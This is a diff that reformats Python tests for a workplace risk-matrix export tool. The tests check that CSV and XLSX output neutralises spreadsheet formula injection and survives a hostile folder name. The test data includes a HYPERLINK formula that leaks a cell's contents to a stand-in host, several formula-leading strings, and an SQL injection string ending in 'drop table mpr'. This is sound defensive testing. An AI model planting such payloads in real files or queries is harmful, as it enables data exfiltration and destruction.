@@ -21,8 +21,16 @@ from sidil.interfaz.filtros import Seleccion
 from sidil.interfaz.mpr import Matriz
 
 # What a hostile or careless DNE could hold as workplace names, in the order of the manual MPR's ids 1-8.
-NOMBRES = ['=HYPERLINK("http://x.invalid/?d="&A1,"clic")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tcon tabulador",
-           "\rcon retorno", "CT normal", "O'Hara = bien"]
+NOMBRES = [
+    '=HYPERLINK("http://x.invalid/?d="&A1,"clic")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tcon tabulador",
+    "\rcon retorno",
+    "CT normal",
+    "O'Hara = bien",
+]
 ESPERADOS = ["'" + n for n in NOMBRES[:6]] + NOMBRES[6:]
 CARPETA_HOSTIL = "x'; drop table mpr; --"
 
@@ -34,7 +42,7 @@ def _mpr_hostil(carpeta: Path) -> Path:
     tabla = pq.read_table(carpeta / "mpr.parquet")
     tabla = tabla.set_column(tabla.column_names.index("nombre_ct"), "nombre_ct", [NOMBRES])
     ind = tabla.column("ind_a").to_pylist()
-    ind[0] = -0.5                                           # a negative number is not text
+    ind[0] = -0.5  # a negative number is not text
     tabla = tabla.set_column(tabla.column_names.index("ind_a"), "ind_a", [ind])
     pq.write_table(tabla, carpeta / "mpr.parquet")
     return carpeta
@@ -64,7 +72,7 @@ def test_the_interface_csv_neutralises_formulas_and_keeps_numbers(tmp_path):
     filas = {int(f["centro_trabajo_id"]): f for f in _leer_csv(ruta)}
     assert [filas[i]["nombre_ct"] for i in range(1, 9)] == ESPERADOS
     assert filas[1]["ind_a"] == "-0.5" and filas[2]["ind_a"] == "0.8"
-    assert [int(i) for i in filas] == [8, 7, 6, 5, 4, 3, 2, 1]              # still by overall risk
+    assert [int(i) for i in filas] == [8, 7, 6, 5, 4, 3, 2, 1]  # still by overall risk
     # the quote and the semicolon in the folder name did nothing else: one file, the matrix intact
     assert sorted(p.name for p in (tmp_path / CARPETA_HOSTIL).rglob("*")) == ["m.csv", "salidas"]
     assert m.cursor().execute("select count(*) from mpr").fetchone()[0] == 8
@@ -81,7 +89,7 @@ def test_xlsx_text_that_looks_like_a_formula_is_an_inline_string(tmp_path):
     celda = re.search(r'<c r="B\d+"[^>]*><is><t xml:space="preserve">=HYPERLINK\(', hoja)
     assert celda and 't="inlineStr"' in celda.group(0)
     assert '<t xml:space="preserve">@SUM(A1:A9)</t>' in hoja
-    assert re.search(r'<c r="[A-Z]+9"><v>-0.5</v></c>', hoja)               # id 1 is last by risk: row 9
+    assert re.search(r'<c r="[A-Z]+9"><v>-0.5</v></c>', hoja)  # id 1 is last by risk: row 9
 
 
 def test_the_mpr_csv_neutralises_formulas_and_lands_in_a_folder_with_a_quote(mpr_tiny, tmp_path):
@@ -90,12 +98,23 @@ def test_the_mpr_csv_neutralises_formulas_and_lands_in_a_folder_with_a_quote(mpr
     db = tmp_path / "sidil.duckdb"
     shutil.copy(mpr_tiny["db"], db)
     con = duckdb.connect(str(db))
-    primero, segundo = [r[0] for r in con.execute(
-        "select centro_trabajo_id from marts.dne_plus order by centro_trabajo_id limit 2").fetchall()]
-    con.execute("update intermediate.int_dne__centros_trabajo set nombre_ct = ? where centro_trabajo_id = ?", [NOMBRES[0], primero])
-    con.execute("update intermediate.int_dne__centros_trabajo set nombre_ct = ? where centro_trabajo_id = ?", ["-Sin nombre", segundo])
-    con.execute("update marts.universo_ct_con_indicadores set num_trabajadores = -3 where centro_trabajo_id = ?",
-                [primero])
+    primero, segundo = [
+        r[0]
+        for r in con.execute(
+            "select centro_trabajo_id from marts.dne_plus order by centro_trabajo_id limit 2"
+        ).fetchall()
+    ]
+    con.execute(
+        "update intermediate.int_dne__centros_trabajo set nombre_ct = ? where centro_trabajo_id = ?",
+        [NOMBRES[0], primero],
+    )
+    con.execute(
+        "update intermediate.int_dne__centros_trabajo set nombre_ct = ? where centro_trabajo_id = ?",
+        ["-Sin nombre", segundo],
+    )
+    con.execute(
+        "update marts.universo_ct_con_indicadores set num_trabajadores = -3 where centro_trabajo_id = ?", [primero]
+    )
     n = con.execute("select count(*) from marts.universo_ct_con_indicadores").fetchone()[0]
     con.close()
     salidas = tmp_path / CARPETA_HOSTIL / "salidas"
@@ -104,14 +123,18 @@ def test_the_mpr_csv_neutralises_formulas_and_lands_in_a_folder_with_a_quote(mpr
     r = subprocess.run([str(sidil), "predict", "--publicar"], env=env, capture_output=True, text=True)
     assert r.returncode == 0, r.stdout[-3000:] + r.stderr[-3000:]
     assert sorted(p.name for p in (salidas / "mpr").iterdir()) == [
-        "mpr.csv", "mpr.parquet", "mpr_diccionario.parquet", "mpr_metadatos.json"]
+        "mpr.csv",
+        "mpr.parquet",
+        "mpr_diccionario.parquet",
+        "mpr_metadatos.json",
+    ]
     filas = {int(f["centro_trabajo_id"]): f for f in _leer_csv(salidas / "mpr" / "mpr.csv")}
     assert len(filas) == n
     assert filas[primero]["nombre_ct"] == ESPERADOS[0] and filas[segundo]["nombre_ct"] == "'-Sin nombre"
     assert not [f["nombre_ct"] for f in filas.values() if f["nombre_ct"][:1] in ("=", "+", "-", "@", "\t", "\r")]
-    assert filas[primero]["atrib_num_trabajadores"] == "-3"                   # a negative number stays a number
+    assert filas[primero]["atrib_num_trabajadores"] == "-3"  # a negative number stays a number
     assert float(filas[primero]["riesgo"]) >= 0
-    parquet = pq.read_table(salidas / "mpr" / "mpr.parquet").to_pydict()   # the Parquet keeps the true name
+    parquet = pq.read_table(salidas / "mpr" / "mpr.parquet").to_pydict()  # the Parquet keeps the true name
     assert parquet["nombre_ct"][parquet["centro_trabajo_id"].index(primero)] == NOMBRES[0]
     con = duckdb.connect(str(db), read_only=True)
     assert con.execute("select count(*) from ml.mpr").fetchone()[0] == n
